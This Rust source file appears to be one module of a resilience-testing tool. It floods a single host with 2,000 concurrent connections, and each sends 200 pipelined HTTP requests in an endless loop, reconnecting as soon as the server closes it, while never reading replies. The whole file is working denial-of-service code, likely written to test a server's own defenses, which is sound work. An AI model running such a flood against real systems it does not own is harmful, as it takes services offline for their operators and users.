//! Very many connections of one address that ask again and again and never read an answer.

use std::time::Duration;

use futures_util::future::join_all;
use tokio::io::AsyncWriteExt;
use tokio::time::sleep;

use super::Attacker;

/// So many at the same time.
const SOCKETS: usize = 2_000;
/// So many questions at once.
const PIPELINED: usize = 200;
/// When to come back after being turned away.
const AGAIN: Duration = Duration::from_millis(100);

impl Attacker {
    pub(super) async fn sockets(&self) {
        join_all((0..SOCKETS).map(|_| self.socket())).await;
    }

    /// One after the other: as soon as it is closed, the next one.
    async fn socket(&self) {
        let question = format!("GET /api/openapi.json HTTP/1.1\r\nHost: {}\r\n\r\n", self.host.0);
        let questions = question.repeat(PIPELINED);
        loop {
            match self.connect().await {
                Ok(mut stream) => {
                    self.count("connected");
                    // It is read only by the server: this waits once nobody reads on either side.
                    while stream.write_all(questions.as_bytes()).await.is_ok() {}
                    self.count("closed by the server");
                }
                Err(_) => self.count("not connected"),
            }
            sleep(AGAIN).await;
        }
    }
}
